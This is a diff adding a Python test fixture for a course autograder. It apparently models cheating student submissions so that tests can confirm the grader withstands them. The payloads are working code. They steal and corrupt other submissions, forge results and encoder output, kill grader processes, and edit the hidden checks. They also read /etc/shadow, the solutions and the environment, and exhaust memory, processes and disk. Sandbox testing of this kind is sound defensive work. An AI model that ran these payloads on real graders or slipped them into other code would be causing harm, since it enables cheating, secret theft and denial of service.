@@ -1,0 +1,243 @@
+"""Hostile submissions, as a student who knows a little Python would write them.
+
+Each attack is code placed in an exercise file of an otherwise honest submission. What the honest
+part deserves is known (`Attack.deserves`: points per exercise), so a test can say the attack
+gained nothing. The attacks are grouped by what they go after: another submission, the results,
+the grader itself, the secrets (solutions, hidden checks, environment), the machine (memory,
+processes, disk, network), and the report channel.
+"""
+
+from __future__ import annotations
+
+import shutil
+import textwrap
+from dataclasses import dataclass, field
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parents[2]
+MARKER = "hostile-7f3a"  # in the command line of every process an attack leaves, so a test can look for it
+EX01, EX02, EX03 = "ex01_process_group.py", "ex02_data_sharding.py", "ex03_train_ddp.py"
+FULL = {EX01: 5.0, EX02: 5.0, EX03: 7.0}  # points of the exercises the submissions below hold
+
+
+@dataclass
+class Attack:
+    name: str
+    code: str  # appended to `file` at the top level: it runs at import and may redefine the functions
+    file: str = EX01
+    honest: dict[str, str] = field(default_factory=lambda: {EX01: "stub"})  # file -> "stub" | "solution"
+
+    @property
+    def deserves(self) -> dict[str, float]:
+        return {name: FULL[name] if kind == "solution" else 0.0 for name, kind in self.honest.items()}
+
+    def write(self, folder: Path, context: dict[str, str]) -> Path:
+        folder.mkdir(parents=True)
+        for name, kind in self.honest.items():
+            source = (REPO / ("solutions" if kind == "solution" else "exercises") / name).read_text()
+            if name == self.file:
+                source += "\n" + textwrap.dedent(self.code).format(**context)
+            (folder / name).write_text(source)
+        return folder
+
+
+def victim(folder: Path) -> Path:
+    folder.mkdir(parents=True)
+    for name in FULL:
+        shutil.copyfile(REPO / "solutions" / name, folder / name)
+    return folder
+
+
+ATTACKS = [
+    # --- other submissions -------------------------------------------------------------------
+    Attack("steals_and_spoils_others", """
+        import glob as _g, os as _o
+        for _p in _g.glob("/tmp/**/ex0[1-3]_*.py", recursive=True) + _g.glob("{tmp}/**/ex0[1-3]_*.py", recursive=True):
+            try:
+                if _o.path.realpath(_p) != _o.path.realpath(__file__) and "def setup_ddp" in open(_p).read():
+                    exec(compile(open(_p).read(), _p, "exec"))
+                    open(_p, "w").write("def setup_ddp(*a, **k):\\n    raise NotImplementedError\\n")
+            except OSError:
+                pass
+        """),
+    # --- the results --------------------------------------------------------------------------
+    Attack("rewrites_results_from_proc_cmdline", """
+        import os as _o, json as _j, glob as _g
+        for _pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
+            try:
+                _args = open(f"/proc/{{_pid}}/cmdline", "rb").read().split(b"\\0")
+            except OSError:
+                continue
+            if b"--out" in _args:
+                _out = _args[_args.index(b"--out") + 1].decode()
+                for _r in _g.glob(_out + "/*/results.json"):
+                    try:
+                        open(_r, "w").write(_j.dumps({{"score": 0, "tests": []}}))
+                    except OSError:
+                        pass
+        """),
+    Attack("daemon_rewrites_results_after_the_batch", """
+        import os as _o, subprocess as _s, sys as _y
+        _s.Popen([_y.executable, "-c", "import time, glob, json\\n# {marker}\\n"
+                  "for _ in range(300):\\n"
+                  "    time.sleep(0.2)\\n"
+                  "    for r in glob.glob('{out}/*/results.json'):\\n"
+                  "        open(r, 'w').write(json.dumps({{'score': 63, 'tests': []}}))"],
+                 start_new_session=True, stdout=_s.DEVNULL, stderr=_s.DEVNULL)
+        if _o.fork() == 0:
+            _o.setsid()
+            if _o.fork() == 0:
+                _o.execvp("sleep", ["sleep", "9{marker_number}"])
+            _o._exit(0)
+        """),
+    # --- the grader ----------------------------------------------------------------------------
+    Attack("kills_every_process_it_can_see", """
+        import os as _o, signal as _sg
+        for _pid in [int(p) for p in _o.listdir("/proc") if p.isdigit()]:
+            try:
+                if b"grader" in open(f"/proc/{{_pid}}/cmdline", "rb").read() and _pid != _o.getpid():
+                    _o.kill(_pid, _sg.SIGKILL)
+            except OSError:
+                pass
+        """),
+    Attack("edits_the_judge", """
+        import pathlib as _pl
+        for _root in (_pl.Path(__import__("grader").__file__).parents[1], _pl.Path("{course}")):
+            for _f in list(_root.glob("grader/checks/*/checks.py")) + list(_root.glob("grader/checks/*/hidden.py")):
+                try:
+                    with open(_f, "a") as _w:
+                        _w.write("\\nraise SystemExit('judge edited by a submission')\\n")
+                except OSError:
+                    pass
+        """),
+    # --- the secrets --------------------------------------------------------------------------
+    Attack("loads_the_solution", """
+        import pathlib as _pl
+        for _root in (_pl.Path(__import__("grader").__file__).parents[1], _pl.Path("{course}")):
+            _sol = _root / "solutions" / "ex01_process_group.py"
+            try:
+                exec(compile(_sol.read_text(), str(_sol), "exec"))
+                break
+            except OSError:
+                pass
+        """),
+    Attack("shows_secrets_in_its_messages", """
+        import os as _o, pathlib as _pl
+        _found = []
+        for _f in ("{course}/grader/checks/ex02_data_sharding/hidden.py", "{course}/solutions/ex03_train_ddp.py",
+                   "/etc/passwd", "/etc/shadow"):
+            try:
+                _found.append(_pl.Path(_f).read_text()[:3000])
+            except OSError:
+                pass
+        _found.append(repr(dict(_o.environ)))
+        print("\\n".join(_found))
+
+        def setup_ddp(rank, world_size, backend=None):
+            raise RuntimeError("\\n".join(_found))
+        """),
+    Attack("forges_facts_by_patching_the_encoder", """
+        import os as _o, sys as _y
+        import grader.engine.wire as _w
+        _real = _w.encode
+
+        def _forged(report):
+            frame = _y._getframe()
+            while frame is not None and not isinstance(frame.f_locals.get("spec"), dict):
+                frame = frame.f_back
+            spec = frame.f_locals["spec"]
+            rank, world = spec["rank"], spec["world_size"]
+            port = _o.environ.get("MASTER_PORT")
+            init = {{"backend": None, "init_method": None, "rank": rank, "world_size": world,
+                    "master_addr": "127.0.0.1", "master_port": port}}
+            report["error"] = None
+            report["facts"] = {{
+                "grader_port": port, "init_calls": [init], "set_device_calls": [], "initialized": True,
+                "group": {{"rank": rank, "world_size": world, "backend": "gloo"}},
+                "all_reduce": [world * (world + 1) / 2], "broadcast": [100.0 + world - 1],
+                "initialized_after_cleanup": False,
+                "events": [{{"call": "set_device", "device": rank}}, {{"call": "init_process_group", **init,
+                                                                       "backend": "nccl"}}],
+            }}
+            return _real(report)
+        _w.encode = _forged
+        """),
+    # --- the machine --------------------------------------------------------------------------
+    Attack("holds_too_much_memory", """
+        def setup_ddp(rank, world_size, backend=None):
+            import time
+            hog = bytearray(5 << 30)
+            for i in range(0, len(hog), 4096):
+                hog[i] = 1
+            time.sleep(60)
+        """),
+    Attack("forks_without_end", """
+        def setup_ddp(rank, world_size, backend=None):
+            import os, time
+            for _ in range(3000):
+                try:
+                    if os.fork() == 0:
+                        time.sleep(60)
+                        os._exit(0)
+                except OSError:
+                    break
+            time.sleep(60)
+        """),
+    Attack("fills_the_disk", """
+        def setup_ddp(rank, world_size, backend=None):
+            import os
+            block = b"x" * (1 << 20)
+            for folder in ("/tmp", os.getcwd(), "{tmp}"):
+                try:
+                    with open(os.path.join(folder, "filler-%d" % rank), "wb") as f:
+                        for _ in range(4096):
+                            f.write(block)
+                except OSError:
+                    pass
+            raise RuntimeError("disk filled as far as it goes")
+        """),
+    Attack("reaches_the_network", """
+        import socket as _k
+        try:
+            with _k.create_connection(("127.0.0.1", {port}), timeout=1) as _c:
+                _c.sendall(b"hello from a submission")
+        except OSError:
+            pass
+        try:
+            _k.create_connection(("1.1.1.1", 53), timeout=1)
+        except OSError:
+            pass
+        """),
+    # --- the report channel --------------------------------------------------------------------
+    Attack("sends_a_deeply_nested_report", """
+        def setup_ddp(rank, world_size, backend=None):
+            import os, struct, sys
+            frame = sys._getframe()
+            while "report_fd" not in frame.f_locals:
+                frame = frame.f_back
+            body = b"[" * 2_000_000 + b"]" * 2_000_000
+            os.write(frame.f_locals["report_fd"], struct.pack("!Q", len(body)) + body)
+            os._exit(0)
+        """, honest={EX01: "stub", EX02: "solution", EX03: "solution"}),
+    Attack("sends_an_oversized_report", """
+        def setup_ddp(rank, world_size, backend=None):
+            import os, struct, sys
+            frame = sys._getframe()
+            while "report_fd" not in frame.f_locals:
+                frame = frame.f_back
+            os.write(frame.f_locals["report_fd"], struct.pack("!Q", 1 << 40) + b"{{")
+            os._exit(0)
+        """, honest={EX01: "stub", EX02: "solution", EX03: "solution"}),
+    Attack("writes_garbage_to_every_pipe", """
+        def setup_ddp(rank, world_size, backend=None):
+            import os, stat
+            for fd in range(3, 64):
+                try:
+                    if stat.S_ISFIFO(os.fstat(fd).st_mode):
+                        os.set_blocking(fd, False)
+                        os.write(fd, b"\xff" * 100_000)
+                except OSError:
+                    pass
+            os._exit(0)
+        """, honest={EX01: "stub", EX02: "solution", EX03: "solution"}),
+]
